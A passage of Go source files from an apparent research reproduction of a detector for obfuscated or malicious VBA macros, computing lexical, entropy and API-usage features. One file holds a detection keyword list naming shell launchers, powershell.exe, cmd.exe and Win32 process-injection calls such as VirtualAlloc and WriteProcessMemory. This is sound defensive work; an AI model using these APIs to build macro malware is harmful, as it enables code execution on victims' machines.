		return 0
	}
	var counts [256]int
	for _, b := range data {
		counts[b]++
	}
	h := 0.0
	n := float64(len(data))
	for _, c := range counts {
		if c == 0 {
			continue
		}
		p := float64(c) / n
		h -= p * math.Log2(p)
	}
	return h
}

// meanVar returns the mean and population variance of xs (0, 0 when empty).
func meanVar(xs []float64) (mean, variance float64) {
	if len(xs) == 0 {
		return 0, 0
	}
	for _, x := range xs {
		mean += x
	}
	mean /= float64(len(xs))
	for _, x := range xs {
		d := x - mean
		variance += d * d
	}
	variance /= float64(len(xs))
	return mean, variance
}

func lengths(ss []string) []float64 {
	out := make([]float64, len(ss))
	for i, s := range ss {
		out[i] = float64(len(s))
	}
	return out
}

func ratio(num, den float64) float64 {
	if den == 0 {
		return 0
	}
	return num / den
}
