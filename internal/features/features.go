// Package features implements the static feature sets of the paper: the
// proposed V1–V15 vector (Table IV) designed around the four obfuscation
// types O1–O4, and the comparison J1–J20 vector (Table VI) assembled from
// the JavaScript-obfuscation literature (Likarish'09, Aebersold'16) with
// the paper's VBA adaptations (J14 threshold of 150 characters).
package features

import (
	"math"
	"strings"
	"sync"

	"repro/internal/vba"
	"repro/internal/vba/catalog"
)

// VDim and JDim are the lengths of the two feature vectors.
const (
	VDim = 15
	JDim = 20
)

// VNames lists the 15 proposed features in Table IV order.
var VNames = []string{
	"V1_code_chars", "V2_comment_chars", "V3_word_len_avg", "V4_word_len_var",
	"V5_string_op_freq", "V6_string_char_pct", "V7_string_len_avg",
	"V8_text_fn_pct", "V9_arith_fn_pct", "V10_conv_fn_pct",
	"V11_fin_fn_pct", "V12_rich_fn_pct", "V13_entropy",
	"V14_ident_len_avg", "V15_ident_len_var",
}

// JNames lists the 20 comparison features in Table VI order.
var JNames = []string{
	"J1_length_chars", "J2_chars_per_line", "J3_lines", "J4_strings",
	"J5_human_readable_pct", "J6_whitespace_pct", "J7_methods_called_pct",
	"J8_string_len_avg", "J9_arg_len_avg", "J10_comments",
	"J11_comments_per_line", "J12_words", "J13_words_not_comment_pct",
	"J14_long_line_pct", "J15_entropy", "J16_string_char_share",
	"J17_backslash_pct", "J18_chars_per_fn_body", "J19_fn_body_char_pct",
	"J20_fn_defs_per_char",
}

// numClasses sizes the per-class call counters (catalog.ClassNone through
// catalog.ClassRich).
const numClasses = int(catalog.ClassRich) + 1

// Analysis holds everything computed from one macro source; V and J read
// from it so a single parse serves both feature sets. All statistics are
// finalized scalars: the intermediate word/identifier/string slices the
// old implementation materialized live only in pooled scratch inside
// Analyze, so a retained Analysis pins nothing but the source and module.
type Analysis struct {
	src    string
	module *vba.Module

	codeChars    int // chars outside comments
	commentChars int
	commentCount int

	words               int     // "words" in the full source (Likarish unit)
	wordsInCode         int     // words outside comments
	wicMean, wicVar     float64 // word-length mean/variance outside comments
	identMean, identVar float64
	readableWords       int // J5 numerator: dictionary-readable words
	letterWords         int // J5 denominator: words containing a letter

	stringCount int
	stringChars int // decoded chars inside string literals
	stringOps   int // '&' '+' '=' operator tokens (V5)

	lines     int
	longLines int // lines > 150 chars (paper's VBA-adapted J14)

	callTotal   int
	callByClass [numClasses]int
	argChars    int

	whitespace  int // ' ' '\t' '\r' '\n' bytes
	backslashes int
	bodyChars   int // raw chars of procedure-body lines (J18/J19)

	entropy float64
}

// Module exposes the parsed syntactic view behind the analysis, so
// downstream passes (triage, deobfuscation) can reuse the single parse
// instead of re-lexing the same source.
func (a *Analysis) Module() *vba.Module { return a.module }

// Source returns the analyzed macro text.
func (a *Analysis) Source() string { return a.src }

// analyzeScratch is the reusable per-call workspace: word/identifier
// length buffers for the two-pass mean/variance, newline offsets for the
// procedure-body measure, and the identifier dedup set. Pooled so steady
// state Analyze calls allocate nothing for it.
type analyzeScratch struct {
	wicLens   []float64
	identLens []float64
	nl        []int
	seen      map[string]bool
	lower     []byte
}

var scratchPool = sync.Pool{New: func() any {
	return &analyzeScratch{seen: make(map[string]bool)}
}}

// Analyze parses src and computes the shared statistics once.
func Analyze(src string) *Analysis {
	a := &Analysis{
		src:    src,
		module: vba.Parse(src),
	}
	sc := scratchPool.Get().(*analyzeScratch)
	sc.wicLens = sc.wicLens[:0]
	sc.identLens = sc.identLens[:0]
	sc.nl = sc.nl[:0]
	clear(sc.seen)

	// One pass over the raw bytes: the byte histogram (entropy, whitespace
	// and backslash shares), line structure with long-line counting, and
	// the '\n' offsets the procedure-body measure needs.
	var counts [256]int
	lineStart := 0
	for i := 0; i < len(src); i++ {
		c := src[i]
		counts[c]++
		switch c {
		case '\n':
			sc.nl = append(sc.nl, i)
			a.lines++
			if i-lineStart > 150 {
				a.longLines++
			}
			lineStart = i + 1
		case '\r':
			// A terminator either way: "\r\n" is one line break, a lone
			// "\r" (classic-Mac ending) is its own break.
			content := i - lineStart
			if i+1 < len(src) && src[i+1] == '\n' {
				counts['\n']++
				sc.nl = append(sc.nl, i+1)
				i++
			}
			a.lines++
			if content > 150 {
				a.longLines++
			}
			lineStart = i + 1
		}
	}
	a.lines++ // the final segment counts even when empty
	if len(src)-lineStart > 150 {
		a.longLines++
	}
	a.whitespace = counts[' '] + counts['\t'] + counts['\r'] + counts['\n']
	a.backslashes = counts['\\']
	a.entropy = entropyFromCounts(&counts, len(src))

	// One pass over the token stream: comment totals, string-literal
	// statistics (decoded length without building the decoded string),
	// V5 string operators, and word lengths outside comments. Tokens are
	// word-delimited by construction (the old implementation joined them
	// with spaces before splitting), so per-token word scans compose.
	for _, t := range a.module.Tokens {
		switch t.Kind {
		case vba.KindComment:
			a.commentChars += len(t.Text)
			a.commentCount++
			continue
		case vba.KindString:
			a.stringCount++
			a.stringChars += decodedStringLen(t.Text)
		case vba.KindOperator:
			if t.Text == "&" || t.Text == "+" || t.Text == "=" {
				a.stringOps++
			}
		}
		sc.wicLens = appendWordLens(sc.wicLens, t.Text)
	}
	a.codeChars = len(src) - a.commentChars
	a.wordsInCode = len(sc.wicLens)
	a.wicMean, a.wicVar = meanVar(sc.wicLens)

	// One pass over the source for word count and J5 readability; word
	// substrings are views into src, never copied.
	start := -1
	for i := 0; i <= len(src); i++ {
		if i < len(src) && isWordByte(src[i]) {
			if start < 0 {
				start = i
			}
			continue
		}
		if start >= 0 {
			w := src[start:i]
			a.words++
			if hasLetter(w) {
				a.letterWords++
				if isHumanReadable(w) {
					a.readableWords++
				}
			}
			start = -1
		}
	}

	// Identifier statistics, deduped case-insensitively in declaration
	// order (procedures, their params, then declarations) exactly as
	// Module.Identifiers does — without materializing the name list.
	for _, pr := range a.module.Procedures {
		sc.addIdent(pr.Name)
		for _, pa := range pr.Params {
			sc.addIdent(pa.Name)
		}
	}
	for _, d := range a.module.Declarations {
		sc.addIdent(d.Name)
	}
	a.identMean, a.identVar = meanVar(sc.identLens)

	for _, c := range a.module.Calls {
		a.callTotal++
		a.callByClass[catalog.Classify(c.Name)]++
		if c.ArgChars > 0 {
			a.argChars += c.ArgChars
		}
	}

	a.bodyChars = procBodyChars(src, a.module, sc.nl)

	scratchPool.Put(sc)
	return a
}

// addIdent records one identifier length unless its lowercased form has
// been seen. The lowercase key is built in the scratch buffer so the map
// lookup allocates nothing; only the first sighting of a name allocates
// (the retained map key).
func (sc *analyzeScratch) addIdent(name string) {
	if name == "" {
		return
	}
	ascii := true
	for i := 0; i < len(name); i++ {
		if name[i] >= 0x80 {
			ascii = false
			break
		}
	}
	if !ascii {
		// Rare: defer to the Unicode-correct lowering so dedup keys match
		// what Module.Identifiers would produce.
		key := strings.ToLower(name)
		if sc.seen[key] {
			return
		}
		sc.seen[key] = true
		sc.identLens = append(sc.identLens, float64(len(name)))
		return
	}
	sc.lower = sc.lower[:0]
	for i := 0; i < len(name); i++ {
		c := name[i]
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		sc.lower = append(sc.lower, c)
	}
	if sc.seen[string(sc.lower)] {
		return
	}
	sc.seen[string(sc.lower)] = true
	sc.identLens = append(sc.identLens, float64(len(name)))
}

// V returns the proposed 15-dimension feature vector.
//
// Count-valued features are normalized by V1 (the comment-free code
// length) per the paper's §IV.C normalization rule.
func (a *Analysis) V() []float64 {
	v := make([]float64, VDim)
	v[0] = float64(a.codeChars)
	v[1] = float64(a.commentChars)
	v[2], v[3] = a.wicMean, a.wicVar
	v[4] = ratio(float64(a.stringOps), float64(a.codeChars))
	v[5] = ratio(float64(a.stringChars), float64(len(a.src)))
	v[6] = a.stringLenAvg()
	v[7] = a.callClassPct(catalog.ClassText)
	v[8] = a.callClassPct(catalog.ClassArithmetic)
	v[9] = a.callClassPct(catalog.ClassConversion)
	v[10] = a.callClassPct(catalog.ClassFinancial)
	v[11] = a.callClassPct(catalog.ClassRich)
	v[12] = a.entropy
	v[13], v[14] = a.identMean, a.identVar
	return v
}

// J returns the 20-dimension comparison vector from the JavaScript
// obfuscation-detection literature.
func (a *Analysis) J() []float64 {
	j := make([]float64, JDim)
	j[0] = float64(len(a.src))
	j[1] = ratio(float64(len(a.src)), float64(a.lines))
	j[2] = float64(a.lines)
	j[3] = float64(a.stringCount)
	j[4] = ratio(float64(a.readableWords), float64(a.letterWords))
	j[5] = ratio(float64(a.whitespace), float64(len(a.src)))
	j[6] = ratio(float64(a.callTotal), float64(a.words))
	j[7] = a.stringLenAvg()
	j[8] = ratio(float64(a.argChars), float64(a.callTotal))
	j[9] = float64(a.commentCount)
	j[10] = ratio(float64(a.commentCount), float64(a.lines))
	j[11] = float64(a.words)
	j[12] = ratio(float64(a.wordsInCode), float64(a.words))
	j[13] = ratio(float64(a.longLines), float64(a.lines))
	j[14] = a.entropy
	j[15] = ratio(float64(a.stringChars), float64(len(a.src)))
	j[16] = ratio(float64(a.backslashes), float64(len(a.src)))
	j[17] = ratio(float64(a.bodyChars), float64(len(a.module.Procedures)))
	j[18] = ratio(float64(a.bodyChars), float64(len(a.src)))
	j[19] = ratio(float64(len(a.module.Procedures)), float64(len(a.src)))
	return j
}

// stringLenAvg is the mean decoded string-literal length (0 when there are
// none). The per-literal lengths are integers, so the running integer sum
// divided at the end is bit-identical to the old sequential float mean.
func (a *Analysis) stringLenAvg() float64 {
	if a.stringCount == 0 {
		return 0
	}
	return float64(a.stringChars) / float64(a.stringCount)
}

// procBodyChars counts the raw source characters of the lines strictly
// between each procedure header and its End statement (whitespace
// included), the J18/J19 "function body" notion. Line boundaries here are
// '\n' positions only (the historical Split semantics — a '\r' stays part
// of its line), supplied as the nl offset list from the byte scan.
func procBodyChars(src string, m *vba.Module, nl []int) int {
	nParts := len(nl) + 1
	total := 0
	for _, p := range m.Procedures {
		for ln := p.StartLine; ln < p.EndLine-1 && ln < nParts; ln++ {
			start := 0
			if ln > 0 {
				start = nl[ln-1] + 1
			}
			end := len(src)
			if ln < len(nl) {
				end = nl[ln]
			}
			total += end - start + 1
		}
	}
	return total
}

// ExtractV is the convenience one-shot V-vector extractor.
func ExtractV(src string) []float64 { return Analyze(src).V() }

// ExtractJ is the convenience one-shot J-vector extractor.
func ExtractJ(src string) []float64 { return Analyze(src).J() }

func (a *Analysis) callClassPct(c catalog.Class) float64 {
	return ratio(float64(a.callByClass[c]), float64(a.callTotal))
}

// decodedStringLen is the length StringValue would return for a string
// token, computed without building the decoded string: the quotes are
// stripped and each doubled quote counts once.
func decodedStringLen(text string) int {
	s := text
	if len(s) >= 2 && s[0] == '"' && s[len(s)-1] == '"' {
		s = s[1 : len(s)-1]
	}
	n := 0
	for i := 0; i < len(s); i++ {
		n++
		if s[i] == '"' && i+1 < len(s) && s[i+1] == '"' {
			i++ // collapsed escaped quote
		}
	}
	return n
}

func hasLetter(w string) bool {
	for i := 0; i < len(w); i++ {
		c := w[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
			return true
		}
	}
	return false
}

// isWordByte reports whether c belongs to a "word": alphanumeric,
// underscore, or any byte ≥ 0x80 (multibyte UTF-8 content).
func isWordByte(c byte) bool {
	return c == '_' || c >= '0' && c <= '9' || c >= 'a' && c <= 'z' ||
		c >= 'A' && c <= 'Z' || c >= 0x80
}

// appendWordLens appends the length of every word in s to dst.
func appendWordLens(dst []float64, s string) []float64 {
	start := -1
	for i := 0; i < len(s); i++ {
		if isWordByte(s[i]) {
			if start < 0 {
				start = i
			}
			continue
		}
		if start >= 0 {
			dst = append(dst, float64(i-start))
			start = -1
		}
	}
	if start >= 0 {
		dst = append(dst, float64(len(s)-start))
	}
	return dst
}

// wordsOf splits source into "words": maximal runs of alphanumeric or
// underscore characters, the unit the paper borrows from Likarish et al.
// ("delimited by whitespace and VBA programming language symbols").
func wordsOf(src string) []string {
	var words []string
	start := -1
	for i := 0; i < len(src); i++ {
		if isWordByte(src[i]) {
			if start < 0 {
				start = i
			}
			continue
		}
		if start >= 0 {
			words = append(words, src[start:i])
			start = -1
		}
	}
	if start >= 0 {
		words = append(words, src[start:])
	}
	return words
}

// ShannonEntropy computes the byte-level Shannon entropy (bits/char) used
// by V13 and J15.
func ShannonEntropy(data []byte) float64 {
	var counts [256]int
	for _, b := range data {
		counts[b]++
	}
	return entropyFromCounts(&counts, len(data))
}

// entropyFromCounts folds a byte histogram into Shannon entropy, walking
// the buckets in value order so the float summation matches ShannonEntropy
// exactly.
func entropyFromCounts(counts *[256]int, n int) float64 {
	if n == 0 {
		return 0
	}
	h := 0.0
	fn := float64(n)
	for _, c := range counts {
		if c == 0 {
			continue
		}
		p := float64(c) / fn
		h -= p * math.Log2(p)
	}
	return h
}

// meanVar returns the mean and population variance of xs (0, 0 when empty).
func meanVar(xs []float64) (mean, variance float64) {
	if len(xs) == 0 {
		return 0, 0
	}
	for _, x := range xs {
		mean += x
	}
	mean /= float64(len(xs))
	for _, x := range xs {
		d := x - mean
		variance += d * d
	}
	variance /= float64(len(xs))
	return mean, variance
}

func ratio(num, den float64) float64 {
	if den == 0 {
		return 0
	}
	return num / den
}
