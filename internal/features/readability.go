package features

// J5 readability is dictionary-based, as in Likarish et al.: a word is
// human readable when its camel-case/underscore segments are common
// English (or programming-English) words. This is deliberately an
// English-centric heuristic — on real corpora with non-English naming it
// misfires on benign code, one reason the J feature set transfers poorly
// to the VBA obfuscation task (§V).
var englishWords = func() map[string]bool {
	words := []string{
		// Common English + office/programming vocabulary.
		"a", "an", "the", "and", "or", "not", "is", "are", "was", "be",
		"to", "of", "in", "on", "at", "by", "for", "with", "from", "as",
		"it", "this", "that", "all", "any", "each", "other", "more",
		"add", "apply", "archive", "attach", "auto", "backup", "balance",
		"base", "body", "book", "box", "break", "buffer", "build", "button",
		"calc", "calculate", "call", "cell", "cells", "change", "chart",
		"check", "clear", "close", "code", "column", "columns", "command",
		"comment", "compare", "complete", "compute", "config", "contact",
		"contains", "content", "continue", "control", "copy", "count",
		"create", "current", "customer", "daily", "data", "date", "day",
		"debug", "default", "delete", "dialog", "dim", "dir", "display",
		"do", "document", "down", "download", "draw", "drop", "edit",
		"else", "empty", "enable", "end", "entry", "error", "event",
		"excel", "exit", "export", "false", "field", "file", "fill",
		"filter", "final", "find", "first", "fix", "folder", "font",
		"footer", "form", "format", "formula", "function", "generate",
		"get", "global", "go", "gross", "group", "handle", "header",
		"height", "helper", "hide", "home", "if", "import", "index",
		"info", "input", "insert", "item", "key", "label", "last", "left",
		"len", "length", "level", "line", "lines", "list", "load", "lock",
		"log", "loop", "macro", "mail", "main", "make", "max", "merge",
		"message", "mid", "min", "mode", "month", "monthly", "move",
		"name", "net", "new", "next", "no", "note", "number", "object",
		"off", "offset", "old", "open", "option", "order", "out", "output",
		"page", "parse", "paste", "path", "payment", "pick", "pos",
		"position", "prepare", "print", "process", "program", "project",
		"public", "put", "quarter", "query", "range", "rate", "read",
		"record", "ref", "refresh", "remove", "rename", "replace",
		"report", "reset", "resize", "result", "resume", "return",
		"right", "row", "rows", "run", "save", "schedule", "scan",
		"screen", "search", "second", "select", "selected", "selection",
		"send", "set", "setting", "sheet", "sheets", "shell", "show",
		"size", "sort", "source", "space", "split", "start", "state",
		"status", "step", "stop", "store", "string", "style", "sub",
		"subject", "sum", "summary", "sync", "system", "tab", "table",
		"target", "task", "temp", "template", "test", "text", "then",
		"time", "title", "top", "total", "trim", "true", "type", "until",
		"up", "update", "upper", "use", "user", "val", "validate",
		"value", "values", "var", "version", "view", "visible", "week",
		"weekly", "while", "width", "window", "word", "work", "workbook",
		"worksheet", "worksheets", "write", "year", "yearly", "yes",
		"zoom", "active", "account", "address", "amount", "application",
		"budget", "business", "but", "can", "case", "cause", "click",
		"company", "complete", "const", "counter", "double", "during",
		"entry", "finance", "financial", "found", "have", "integer",
		"invoice", "long", "hello", "missing", "module", "must", "need",
		"only", "order", "over", "please", "previous", "private",
		"protected", "raw", "ready", "region", "row", "same", "section",
		"share", "should", "skip", "standard", "success", "successfully",
		"their", "there", "under", "variant", "very", "when", "where",
		"will", "you", "your",
	}
	m := make(map[string]bool, len(words))
	for _, w := range words {
		m[w] = true
	}
	return m
}()

// segBufCap bounds the stack buffer a segment is lowercased into. Longer
// segments cannot be dictionary words (the longest entry is far shorter),
// but they still count toward the segment total and the longest-segment
// rule.
const segBufCap = 64

// isHumanReadable reports whether a word is composed of dictionary
// segments. CamelCase, underscores and digit boundaries delimit segments
// (segments shorter than 2 characters are ignored, as in Likarish-style
// tokenization); a word reads as human language when at least half of its
// alphabetic segments (and the longest one) are dictionary words. The scan
// lowercases each segment into a stack buffer and probes the dictionary
// with a non-escaping map lookup, so classification allocates nothing.
func isHumanReadable(word string) bool {
	var buf [segBufCap]byte
	segLen := 0 // true segment length, may exceed the buffer
	nSegs, hits := 0, 0
	longestLen, longestHit := 0, false

	flush := func() {
		if segLen >= 2 {
			nSegs++
			inDict := segLen <= segBufCap && englishWords[string(buf[:segLen])]
			if inDict {
				hits++
			}
			if segLen > longestLen {
				longestLen, longestHit = segLen, inDict
			}
		}
		segLen = 0
	}

	prevLower := false
	for i := 0; i < len(word); i++ {
		c := word[i]
		switch {
		case c >= 'a' && c <= 'z':
			if segLen < segBufCap {
				buf[segLen] = c
			}
			segLen++
			prevLower = true
		case c >= 'A' && c <= 'Z':
			if prevLower {
				flush()
			}
			if segLen < segBufCap {
				buf[segLen] = c + 'a' - 'A'
			}
			segLen++
			prevLower = false
		default:
			flush()
			prevLower = false
		}
	}
	flush()
	if nSegs == 0 {
		return false
	}
	return longestHit && hits*2 >= nSegs
}
