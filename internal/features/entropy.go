// Entropy channel: windowed Shannon-entropy statistics over the raw macro
// bytes. Packed or encoded payloads (Base64 blobs, XOR'd shellcode,
// chr-encoded strings) push local entropy far above what hand-written VBA
// reaches, and they do so in *runs* — a property the single whole-source
// entropy value (V13/J15) averages away. The windowed series follows Liu
// et al. 2019 (PAPERS.md): slide a fixed window over the bytes, compute
// per-window entropy, and summarize the series.
package features

import (
	"math"

	"repro/internal/hostile"
)

// Windowing parameters of entropy channel version 1. Changing any of them
// changes the channel's output and requires a version bump in the registry.
const (
	// EntropyWindow is the window width in bytes.
	EntropyWindow = 256
	// EntropyStride is the window step in bytes.
	EntropyStride = 128
	// EntropyHighBits is the per-window threshold (bits/byte) above which
	// a window counts as "high entropy". Natural-language VBA sits around
	// 4.2–5.2; Base64 payloads measure ~5.8 empirically on 256-byte
	// windows (the 64-symbol ideal is 6.0, minus small-sample bias) and
	// random bytes approach 8.
	EntropyHighBits = 5.5
	// EntropyDim is the channel's dimension.
	EntropyDim = 8
)

// EntropyNames labels the channel's dimensions in output order.
var EntropyNames = []string{
	"E1_win_entropy_mean", "E2_win_entropy_max", "E3_win_entropy_min",
	"E4_win_entropy_var", "E5_win_entropy_range",
	"E6_high_entropy_frac", "E7_high_entropy_runs", "E8_high_entropy_longest_run",
}

// entropyMaxWindows bounds the series length. Featurization runs after
// extraction has already enforced hostile.Limits.MaxMacroSourceBytes, so
// this is a second fence sized from the same budget: the largest macro the
// default budget admits yields exactly this many strides. A hand-crafted
// larger input (bypassing extraction) degrades to a truncated series
// instead of unbounded work.
var entropyMaxWindows = EntropyWindowBudget(hostile.DefaultLimits())

// EntropyWindowBudget converts a hostile resource budget into the maximum
// number of entropy windows its largest admissible macro can produce.
func EntropyWindowBudget(lim hostile.Limits) int {
	lim = lim.Normalize()
	return int(lim.MaxMacroSourceBytes/EntropyStride) + 1
}

// EntropyChannel computes the windowed-entropy summary vector for the
// analyzed macro. It is a pure function of the source, so concurrent calls
// on a shared Analysis are safe.
func (a *Analysis) EntropyChannel() []float64 {
	return entropySummary(a.src, EntropyWindow, EntropyStride, entropyMaxWindows)
}

// ExtractEntropy is the convenience one-shot entropy-channel extractor.
func ExtractEntropy(src string) []float64 {
	return entropySummary(src, EntropyWindow, EntropyStride, entropyMaxWindows)
}

// EntropySeries computes the windowed Shannon-entropy series (bits/byte
// per window) over data. The final partial window, when at least one byte,
// is included. maxWindows truncates the series (<= 0 means unbounded);
// window and stride are clamped to at least 1.
func EntropySeries(data []byte, window, stride, maxWindows int) []float64 {
	var out []float64
	forEachWindowEntropy(string(data), window, stride, maxWindows, func(h float64) {
		out = append(out, h)
	})
	return out
}

// forEachWindowEntropy slides the window over s, maintaining the byte
// histogram incrementally (each byte enters and leaves the histogram once)
// and folding it into entropy per window position.
func forEachWindowEntropy(s string, window, stride, maxWindows int, fn func(float64)) {
	if len(s) == 0 {
		return
	}
	if window < 1 {
		window = 1
	}
	if stride < 1 {
		stride = 1
	}
	var counts [256]int
	emitted := 0
	start := 0
	end := window
	if end > len(s) {
		end = len(s)
	}
	for i := 0; i < end; i++ {
		counts[s[i]]++
	}
	for {
		if maxWindows > 0 && emitted >= maxWindows {
			return
		}
		fn(entropyFromCounts(&counts, end-start))
		emitted++
		if end >= len(s) {
			return
		}
		// Advance by one stride: retire the bytes leaving the window, admit
		// the ones entering it.
		newStart := start + stride
		newEnd := newStart + window
		if newEnd > len(s) {
			newEnd = len(s)
		}
		if newStart >= len(s) {
			return
		}
		for i := start; i < newStart && i < end; i++ {
			counts[s[i]]--
		}
		lo := end
		if newStart > lo {
			lo = newStart
		}
		for i := lo; i < newEnd; i++ {
			counts[s[i]]++
		}
		start, end = newStart, newEnd
	}
}

// entropySummary folds the windowed series into the channel's summary
// statistics in one pass (the series is never materialized).
func entropySummary(s string, window, stride, maxWindows int) []float64 {
	out := make([]float64, EntropyDim)
	var (
		n          int
		sum, sumSq float64
		minH       = math.Inf(1)
		maxH       = math.Inf(-1)
		high       int // windows above the threshold
		runs       int // maximal runs of consecutive high windows
		runLen     int // current run length
		longestRun int
	)
	forEachWindowEntropy(s, window, stride, maxWindows, func(h float64) {
		n++
		sum += h
		sumSq += h * h
		if h < minH {
			minH = h
		}
		if h > maxH {
			maxH = h
		}
		if h >= EntropyHighBits {
			high++
			if runLen == 0 {
				runs++
			}
			runLen++
			if runLen > longestRun {
				longestRun = runLen
			}
		} else {
			runLen = 0
		}
	})
	if n == 0 {
		return out
	}
	mean := sum / float64(n)
	variance := sumSq/float64(n) - mean*mean
	if variance < 0 {
		variance = 0 // float cancellation on near-constant series
	}
	out[0] = mean
	out[1] = maxH
	out[2] = minH
	out[3] = variance
	out[4] = maxH - minH
	out[5] = float64(high) / float64(n)
	out[6] = float64(runs)
	out[7] = float64(longestRun)
	return out
}
