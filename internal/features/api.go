// Suspicious-API/keyword channel: frequencies of the VBA built-in
// functions obfuscators leans on (Chr/Asc/Mid string assembly, CByte/CLng
// conversions, Xor decoding) plus occurrence counts of the suspicious
// capability keywords the malicious-macro literature tracks (Shell,
// CreateObject, Auto_Open, VirtualAlloc, ...). Cheap, interpretable, and
// complementary to the V/J statistics: V measures *how* code is written,
// this channel measures *what* it reaches for.
package features

import (
	"strings"
	"sync"

	"repro/internal/vba"
)

// VBABuiltins are the 65 built-in function names whose call frequencies
// form the first block of the channel (order is part of the channel
// version).
var VBABuiltins = []string{
	"Asc", "AscB", "AscW", "Chr", "ChrB", "ChrW", "Mid", "Join", "InStr", "Replace",
	"Right", "StrConv", "Abs", "Atn", "Cos", "Exp", "Log", "Hex", "Oct", "Str",
	"Val", "Int", "Fix", "Sgn", "Rnd", "Sin", "Sqr", "Tan", "CBool", "CByte",
	"CCur", "CDate", "CDbl", "CDec", "CInt", "CLng", "CLngLng", "CLngPtr", "CSng", "CStr",
	"CVar", "DDB", "FV", "IPmt", "PV", "Pmt", "Rate", "SLN", "SYD", "Array",
	"StrReverse", "Xor", "LBound", "LCase", "Left", "LTrim", "RTrim", "Trim", "Space", "Split",
	"InStrRev", "UBound", "UCase", "Round", "CallByName",
}

// SuspiciousKeywords are the 46 capability markers forming the second
// block: auto-execution entry points, process/file/registry reach, and the
// Win32 process-injection surface. Matched case-insensitively as
// substrings of the raw source, so `.Run`, `Wscript.Shell` and
// `powershell.exe` count wherever they appear.
var SuspiciousKeywords = []string{
	"Shell", "CreateObject", "GetObject", ".Run", ".Exec", ".Create", "Kill", ".StartupPath",
	"ShellExecute", "Shell.Application", "Binary", "Lib", "System", "Wscript.Shell", "Document_Open", "Auto_Open",
	"ShowWindow", "Workbook_Open", "Print", "FileCopy", "Virtual", "AutoOpen", "Open", "Windows",
	"Write", "Document_Close", "Output", "vbhide", "ExecuteExcel4Macro", "SaveToFile", "Environ", "CreateTextFile",
	"dde", "CreateProcessA", "CreateThread", "CreateUserThread", "VirtualAlloc", "VirtualAllocEx", "RtlMoveMemory", "WriteProcessMemory",
	"SetContextThread", "QueueApcThread", "WriteVirtualMemory", "VirtualProtect", "cmd.exe", "powershell.exe",
}

// APIDim is the channel's dimension: one frequency per built-in, one per
// suspicious keyword, plus the two block totals.
var APIDim = len(VBABuiltins) + len(SuspiciousKeywords) + 2

// builtinIndex maps the lowercased built-in name to its feature slot.
var builtinIndex = func() map[string]int {
	m := make(map[string]int, len(VBABuiltins))
	for i, name := range VBABuiltins {
		m[strings.ToLower(name)] = i
	}
	return m
}()

// suspiciousLower holds the lowercased keyword patterns, in feature order.
var suspiciousLower = func() []string {
	out := make([]string, len(SuspiciousKeywords))
	for i, kw := range SuspiciousKeywords {
		out[i] = strings.ToLower(kw)
	}
	return out
}()

// apiFeatureNames labels every dimension of the channel.
func apiFeatureNames() []string {
	names := make([]string, 0, APIDim)
	for _, fn := range VBABuiltins {
		names = append(names, "fn_"+fn)
	}
	for _, kw := range SuspiciousKeywords {
		names = append(names, "kw_"+sanitizeName(kw))
	}
	names = append(names, "api_fn_total", "api_kw_total")
	return names
}

// sanitizeName makes a keyword safe as a feature label.
func sanitizeName(s string) string {
	var sb strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_':
			sb.WriteByte(c)
		default:
			sb.WriteByte('_')
		}
	}
	return sb.String()
}

// apiScratch pools the lowercased-source buffer and the per-token case
// folding buffer so steady-state extraction allocates only the output
// vector.
type apiScratch struct {
	lowerSrc []byte
	lowerTok []byte
}

var apiPool = sync.Pool{New: func() any { return new(apiScratch) }}

// APIChannel computes the suspicious-API/keyword vector for the analyzed
// macro. Counts are normalized by the comment-free code length (the
// paper's §IV.C rule), keeping the channel scale-invariant. It is a pure
// function of the analysis, so concurrent calls on a shared Analysis are
// safe.
func (a *Analysis) APIChannel() []float64 {
	sc := apiPool.Get().(*apiScratch)
	out := make([]float64, APIDim)
	fnBase := 0
	kwBase := len(VBABuiltins)

	// Block 1 — built-in function frequencies from the token stream. The
	// lexer classifies some built-ins (Abs, Mid, CInt, Xor, ...) as
	// reserved words, so both identifier and keyword tokens participate.
	fnTotal := 0
	for _, t := range a.module.Tokens {
		if t.Kind != vba.KindIdent && t.Kind != vba.KindKeyword {
			continue
		}
		if len(t.Text) > maxBuiltinLen {
			continue
		}
		sc.lowerTok = appendLowerASCII(sc.lowerTok[:0], t.Text)
		if i, ok := builtinIndex[string(sc.lowerTok)]; ok {
			out[fnBase+i]++
			fnTotal++
		}
	}

	// Block 2 — suspicious keyword substring counts over the lowercased
	// raw source (dotted and dashed patterns never survive tokenization).
	sc.lowerSrc = appendLowerASCII(sc.lowerSrc[:0], a.src)
	kwTotal := 0
	for i, pat := range suspiciousLower {
		n := countSub(sc.lowerSrc, pat)
		out[kwBase+i] = float64(n)
		kwTotal += n
	}

	// Normalize counts by the comment-free code length and close out the
	// two block totals.
	code := float64(a.codeChars)
	for i := 0; i < kwBase+len(SuspiciousKeywords); i++ {
		out[i] = ratio(out[i], code)
	}
	out[APIDim-2] = ratio(float64(fnTotal), code)
	out[APIDim-1] = ratio(float64(kwTotal), code)

	apiPool.Put(sc)
	return out
}

// ExtractAPI is the convenience one-shot API-channel extractor.
func ExtractAPI(src string) []float64 { return Analyze(src).APIChannel() }

// maxBuiltinLen bounds the token case-folding work; no built-in name is
// longer.
var maxBuiltinLen = func() int {
	n := 0
	for _, name := range VBABuiltins {
		if len(name) > n {
			n = len(name)
		}
	}
	return n
}()

// appendLowerASCII appends s to dst with ASCII letters lowercased. Bytes
// ≥ 0x80 pass through unchanged — the suspicious patterns are pure ASCII,
// so exotic case-folding aliases cannot create false matches and exact
// ASCII spellings always match.
func appendLowerASCII(dst []byte, s string) []byte {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		dst = append(dst, c)
	}
	return dst
}

// countSub counts non-overlapping occurrences of pat in b.
func countSub(b []byte, pat string) int {
	if len(pat) == 0 || len(b) < len(pat) {
		return 0
	}
	n := 0
	first := pat[0]
	for i := 0; i+len(pat) <= len(b); {
		if b[i] != first {
			i++
			continue
		}
		if string(b[i:i+len(pat)]) == pat {
			n++
			i += len(pat)
			continue
		}
		i++
	}
	return n
}
