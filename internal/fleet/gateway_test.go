package fleet

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
